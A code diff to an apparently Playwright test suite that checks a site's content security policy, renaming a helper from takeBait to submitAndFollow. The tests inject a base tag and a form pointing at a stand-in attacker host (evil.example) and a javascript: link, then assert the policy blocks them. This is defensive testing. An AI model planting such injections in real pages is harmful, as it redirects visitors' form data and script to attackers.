@@ -20,7 +20,7 @@ const injected = `
   <base href="https://evil.example/">`
 
 /** Submits a form to another site, then follows a javascript: URL. */
-const takeBait = (page: Page, wanted: string[]) =>
+const submitAndFollow = (page: Page, wanted: string[]) =>
   page.evaluate(async (directives) => {
     const form = Object.assign(document.createElement('form'), { action: 'https://evil.example/' })
     const link = Object.assign(document.createElement('a'), { href: "javascript:window.pwned='address'" })
@@ -69,7 +69,7 @@ test.describe('the content security policy', { tag: '@once' }, () => {
       const picture = page.waitForResponse('**/missing.png')
       await page.goto(address, { waitUntil: 'domcontentloaded' })
       await picture
-      await takeBait(page, ['form-action', 'script-src-attr', 'script-src-elem'])
+      await submitAndFollow(page, ['form-action', 'script-src-attr', 'script-src-elem'])
       expect(await page.evaluate(() => Reflect.get(window, 'pwned')), address).toBeUndefined()
       expect(await page.evaluate(() => document.baseURI), address).toContain(site.url)
     }
@@ -92,7 +92,7 @@ test.describe('the content security policy', { tag: '@once' }, () => {
     const picture = page.waitForResponse('**/missing.png')
     await page.goto('/about', { waitUntil: 'domcontentloaded' })
     await picture
-    await takeBait(page, ['form-action', 'script-src-attr'])
+    await submitAndFollow(page, ['form-action', 'script-src-attr'])
     expect(await page.evaluate(() => Reflect.get(window, 'pwned'))).toBeUndefined()
     expect(reached).toEqual([])
   })
